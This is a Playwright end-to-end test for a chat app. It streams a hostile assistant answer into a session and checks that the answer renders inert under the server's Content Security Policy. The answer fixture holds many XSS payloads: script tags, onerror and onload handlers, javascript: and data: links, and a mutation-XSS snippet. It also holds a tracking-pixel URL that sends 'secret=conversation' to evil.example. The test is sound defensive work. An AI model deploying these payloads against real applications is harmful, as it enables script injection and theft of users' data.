/**
 * An answer full of XSS vectors and remote images, streamed into a session by another client
 * (Node, the app's own sync provider, the same account), rendered in the real app under the real
 * server's Content Security Policy. Ids [RD*] are in docs/SPEC.md.
 */
import type { Locator } from '@playwright/test';
import WebSocket from 'ws';
import * as Y from 'yjs';
import { sessionDoc } from '../../src/lib/core/doc-names.js';
import * as shapes from '../../src/lib/core/shapes.js';
import { SyncProvider } from '../../src/lib/sync/provider.js';
import type { WebSocketConstructor } from '../../src/lib/sync/socket.js';
import { createProject, expect, newSession, send, signIn, test } from './fixtures.js';

const code = 'const answer: number = 42;\nfunction twice(n: number) {\n\treturn n * 2;\n}';
const longLine = `const line = "${'x'.repeat(400)}";`;

const answer = `# Rendering check

Some **bold** text, a [docs link](https://example.com/docs) and a bare https://example.org/page link.

\`\`\`ts
${code}
\`\`\`

| name | value | a wide column |
| --- | --- | --- |
| x | 1 | ${'y'.repeat(300)} |

\`\`\`js
${longLine}
\`\`\`

Raw HTML, which must stay text:

<script>window.__xss = 1; document.title = 'pwned'</script>
<img src="http://evil.example/onerror.png" onerror="window.__xss = 1">
<svg onload="window.__xss = 1"><script>window.__xss = 1</script></svg>
<iframe src="javascript:window.__xss = 1"></iframe>
<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1">
<form action="http://evil.example/"><button>Send</button></form>
<style>body { display: none }</style>
<a href="javascript:window.__xss = 1">raw js link</a>

Inline <img src=x onerror="document.title='pwned'"> too.

[markdown js link](javascript:window.__xss=1)
[entity js link](jav&#x09;ascript:window.__xss=1)
[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)
[evil link](http://evil.example/)

![tracking pixel](http://evil.example/track.png?secret=conversation)
![logo][logo]

[logo]: https://evil.example/logo.png
`;

test('[RD1] [RD3] [RD4] [RD5] [RD6] [RD8] [RD9] a hostile answer renders inert, loads nothing remote, copies exactly', async ({
	page,
	context,
	apiKey,
	tether
}) => {
	const origin = new URL(tether.url).origin;
	await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });

	// Every request the page makes, and every policy violation or error it reports.
	const requests: { url: string; at: number }[] = [];
	page.on('request', (request) => requests.push({ url: request.url(), at: Date.now() }));
	const consoleErrors: string[] = [];
	page.on('console', (message) => {
		if (message.type() === 'error') consoleErrors.push(message.text());
	});
	page.on('pageerror', (error) => consoleErrors.push(error.message));
	await page.addInitScript(() => {
		const seen: string[] = [];
		Object.assign(window, { __cspViolations: seen });
		document.addEventListener('securitypolicyviolation', (event) =>
			seen.push(`${event.violatedDirective} ${event.blockedURI}`)
		);
	});

	// [RD9] The page arrives with a policy that has no 'unsafe-inline' script, agrees with the
	// page's own <meta>, and allows no remote image.
	const response = await page.goto('/');
	const header = response?.headers()['content-security-policy'] ?? '';
	const directive = (name: string) =>
		header
			.split(';')
			.map((part) => part.trim())
			.find((part) => part.startsWith(`${name} `)) ?? '';
	expect(directive('script-src')).toMatch(/^script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')+$/);
	expect(directive('script-src')).not.toContain('unsafe-inline');
	expect(directive('img-src')).toBe("img-src 'self' data: blob:");
	expect(directive('connect-src')).toBe("connect-src 'self'");
	expect(directive('worker-src')).toBe("worker-src 'self'");
	expect(directive('frame-ancestors')).toBe("frame-ancestors 'none'");
	const meta = await page
		.locator('meta[http-equiv="content-security-policy"]')
		.getAttribute('content');
	expect(header).toBe(`${meta}; frame-ancestors 'none'`);

	await signIn(page, apiKey);
	await createProject(page, 'Rendering');
	await newSession(page);
	const sessionId = page.url().split('/s/')[1] ?? '';
	const log = page.getByRole('log', { name: 'Conversation' });
	await expect(log).toContainText('No messages yet');

	// [RD1] A person's own message is plain text, Markdown and HTML alike.
	const typed = '# Not a heading\n**not bold** <b>not bold</b>';
	await send(page, typed);
	// Claude's answer to it (the fake upstream echoes) comes before the streamed one below.
	await expect(log.getByRole('article', { name: 'Claude' })).toHaveAttribute('aria-busy', 'false');
	const mine = log.getByRole('article', { name: 'You' });
	await expect(mine).toContainText('**not bold** <b>not bold</b>');
	await expect(mine.locator('h1, h3, strong, b')).toHaveCount(0);
	const title = await page.title();

	// Another client streams the answer into the session, a few characters per update.
	const { token } = await tether.login(apiKey);
	const doc = new Y.Doc();
	const provider = new SyncProvider({
		url: `${tether.wsUrl}/sync`,
		docName: sessionDoc(sessionId),
		doc,
		getToken: async () => token,
		WebSocketImpl: WebSocket as unknown as WebSocketConstructor,
		awareness: null
	});
	await provider.whenSynced;
	const writtenAt = Date.now();
	const entry = shapes.appendMessage(doc, {
		id: 'answer-1',
		role: 'assistant',
		text: '',
		createdAt: Date.now()
	});
	const text = entry.get('text') as Y.Text;
	for (let at = 0; at < answer.length; at += 97) {
		text.insert(text.length, answer.slice(at, at + 97));
	}
	await expect.poll(() => provider.unsyncedCount).toBe(0);

	// The run's own (echo) answer to the typed message is there too: this is the streamed one.
	const message = log
		.getByRole('article', { name: 'Claude' })
		.filter({ hasText: 'Rendering check' });
	await expect(message.getByRole('heading', { level: 3, name: 'Rendering check' })).toBeVisible();
	await expect(message).toContainText('Image: tracking pixel (not loaded)');
	await expect(message).toContainText('Image: logo (not loaded)');

	// [RD5] The code is highlighted once the lazily loaded highlighter has arrived, which the
	// page fetched only after the answer (with its code) came in.
	await expect(message.locator('pre code .hljs-keyword').first()).toHaveText('const');
	const laterScripts = requests.filter((r) => r.at >= writtenAt && r.url.endsWith('.js'));
	expect(laterScripts.length).toBeGreaterThan(0);

	// [RD1] Nothing ran: the raw HTML is on the page as text.
	await expect(message).toContainText(
		"<script>window.__xss = 1; document.title = 'pwned'</script>"
	);
	await expect(message).toContainText('<img src="http://evil.example/onerror.png"');
	await message.getByText('markdown js link').click();
	await message.getByText('entity js link').click();
	expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
	expect(await page.title()).toBe(title);
	expect(
		await message.locator('script, iframe, object, embed, form, style, svg, math, img').count()
	).toBe(0);
	expect(await message.locator('[onerror], [onload], [onclick], [style]').count()).toBe(0);

	// [RD3] Only web links are links, and each opens a new tab without a way back to this page.
	const links = await message.locator('a[href]').evaluateAll((anchors) =>
		anchors.map((a) => ({
			href: a.getAttribute('href'),
			target: a.getAttribute('target'),
			rel: a.getAttribute('rel')
		}))
	);
	expect(links.map((l) => l.href).sort()).toEqual(
		['http://evil.example/', 'https://example.com/docs', 'https://example.org/page'].sort()
	);
	for (const link of links) {
		expect(link.target).toBe('_blank');
		expect(link.rel).toContain('noopener');
	}

	// [RD4] No image anywhere on the page points elsewhere, and no request left for another host.
	const remoteImages = await page.evaluate(() =>
		[...document.images].map((i) => i.src).filter((src) => new URL(src).origin !== location.origin)
	);
	expect(remoteImages).toEqual([]);
	const offOrigin = requests
		.map((r) => r.url)
		.filter((url) => !url.startsWith('data:') && !url.startsWith('blob:'))
		.filter((url) => !url.startsWith('ws') && new URL(url).origin !== origin);
	expect(offOrigin).toEqual([]);

	// [RD6] "Copy code" copies the block exactly; "Copy as Markdown" copies the whole source.
	// The list may still be settling at the end (virtua re-aligns a scroll to the last message
	// while items resize), and Playwright's scroll into view is not a wheel that would cancel it:
	// a button that moves between mouse down and up gets no click, so press it again until one
	// lands. The status and the clipboard are checked as strictly as ever.
	const pressUntilCopied = async (button: Locator, status: Locator) => {
		await expect(async () => {
			await button.click();
			await expect(status).toHaveText('Copied', { timeout: 1_000 });
		}).toPass({ timeout: 15_000 });
	};
	const firstBlock = message.locator('.md-code').first();
	await pressUntilCopied(
		firstBlock.getByRole('button', { name: 'Copy code' }),
		firstBlock.getByRole('status')
	);
	expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
	await pressUntilCopied(
		message.getByRole('button', { name: 'Copy as Markdown' }),
		message.getByRole('status').last()
	);
	expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(answer);

	// [RD8] On a 360 px phone the wide table and the long code line scroll inside their own
	// boxes; the conversation never scrolls sideways.
	await page.setViewportSize({ width: 360, height: 740 });
	await expect(message.locator('.md-table')).toBeVisible();
	const overflow = await page.evaluate(() => {
		const conversation = document.querySelector('.conversation');
		const box = (selector: string) => {
			const element = document.querySelector<HTMLElement>(selector);
			return element ? element.scrollWidth > element.clientWidth : null;
		};
		return {
			page: document.documentElement.scrollWidth,
			conversation: conversation ? conversation.scrollWidth - conversation.clientWidth : null,
			tableScrolls: box('.md-table'),
			codeScrolls: [...document.querySelectorAll('.md-code pre')].some(
				(pre) => pre.scrollWidth > pre.clientWidth
			)
		};
	});
	expect(overflow).toEqual({ page: 360, conversation: 0, tableScrolls: true, codeScrolls: true });

	// [RD9] The app did all this without a single policy violation or error.
	expect(
		await page.evaluate(() => (window as { __cspViolations?: string[] }).__cspViolations)
	).toEqual([]);
	expect(consoleErrors.filter((e) => /Content Security Policy|Refused to/i.test(e))).toEqual([]);

	provider.destroy();
	doc.destroy();
});
